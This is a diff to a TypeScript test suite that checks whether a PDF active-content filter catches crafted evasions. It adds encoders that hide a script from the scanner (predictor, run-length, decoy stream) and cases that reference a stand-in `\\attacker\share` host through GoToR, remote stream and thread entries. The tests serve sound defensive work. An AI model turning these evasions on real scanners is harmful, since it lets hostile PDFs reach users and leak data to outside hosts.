@@ -63,6 +63,17 @@ describe('S-43: a PDF that a tester built around the filter is refused', () => {
   const around = (dictionary: string, body: Buffer, eol = '\n') =>
     pdf(Buffer.concat([Buffer.from(`5 0 obj << ${dictionary} >> stream${eol}`), body, Buffer.from('\nendstream endobj')]));
   const flate = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode';
+  const predictor = '/DecodeParms << /Predictor 12 /Columns 1 >>';
+  /** As the predictor Up of a picture one letter wide leaves it. */
+  const up = (text: string) => Buffer.from([...Buffer.from(text)].flatMap((byte, index, all) => [2, (byte - (all[index - 1] ?? 0)) & 255]));
+  /** As run-length coding may leave it: three letters and their count in turn, so that no name stands there whole. */
+  const inRuns = (text: string) =>
+    Buffer.concat([...(text.match(/.{1,3}/gs) ?? []).flatMap((run) => [Buffer.of(run.length - 1), Buffer.from(run)]), Buffer.of(128)]);
+  /** What inflates to something harmless, and is a run with the same first letters to who counts runs. */
+  const decoyed = (text: string) => {
+    const harmless = deflateSync('harmless', { level: 0 });
+    return Buffer.concat([harmless, Buffer.alloc(122 - harmless.length, ' '), inRuns(text)]);
+  };
 
   test.each([
     ['an action of a page, to a document on another machine', pdf('1 0 obj << /Type /Page /AA << /O << /S /GoToR /F (\\\\attacker\\share) >> >> >> endobj')],
@@ -78,6 +89,17 @@ describe('S-43: a PDF that a tester built around the filter is refused', () => {
     ['a dictionary hidden behind a name', around('/Type /ObjStm /Filter /JBIG2Decode /X /obj', Buffer.from('x'))],
     ['a dictionary hidden behind an object in a string', around('/Type /ObjStm /Filter /JBIG2Decode /X (5 0 obj << ) /Y 1', Buffer.from('x'))],
     ['the same, with a parenthesis that is escaped', around(String.raw`/Type /ObjStm /Filter /JBIG2Decode /X (5 0 obj << \() /Y (x)`, Buffer.from('x'))],
+    ['an object stream without its type, its checksum cut off', around('/N 1 /First 4 /Filter /FlateDecode', deflateSync(script).subarray(0, -4))],
+    ['an object stream without its type, behind a predictor', around(`/N 1 /First 4 /Filter /FlateDecode ${predictor}`, deflateSync(up(script)))],
+    ['a predictor that stands elsewhere', around(`${flate} /DecodeParms 8 0 R`, deflateSync(up(script)))],
+    ['a predictor behind a comment', around(`${flate} ${predictor.replace('Predictor ', 'Predictor%x\n')}`, deflateSync(up(script)))],
+    ['an object stream without its type, its filter elsewhere', around('/N 1 /First 4 /Filter 8 0 R', inRuns(script))],
+    ['a filter elsewhere, behind one that stands there for show', around('/Type /ObjStm /Filter 8 0 R /X /FlateDecode', decoyed(script))],
+    ['two filters, of which readers take one', around(`${flate} /Filter 8 0 R`, decoyed(script))],
+    ['a stream out of a file on another machine', around('/Length 0 /F (\\\\attacker\\share)', Buffer.of())],
+    ['a thread of another document', pdf('1 0 obj << /A << /S%x\n/Thread /F (\\\\attacker\\share) >> >> endobj')],
+    ['a script of a solid', pdf('1 0 obj << /Subtype /U3D /OnInstantiate 7 0 R >> endobj')],
+    ['encrypted behind a comment', pdf('trailer << /Encrypt%x\n8 0 R >>')],
     ['a dictionary hidden behind an object in a comment', around('/Type /ObjStm /Filter /JBIG2Decode % 5 0 obj <<\n /Y 1', Buffer.from('x'))],
   ])('%s', (_what, bytes) => {
     expect(hasActiveParts(bytes)).toBe(true);
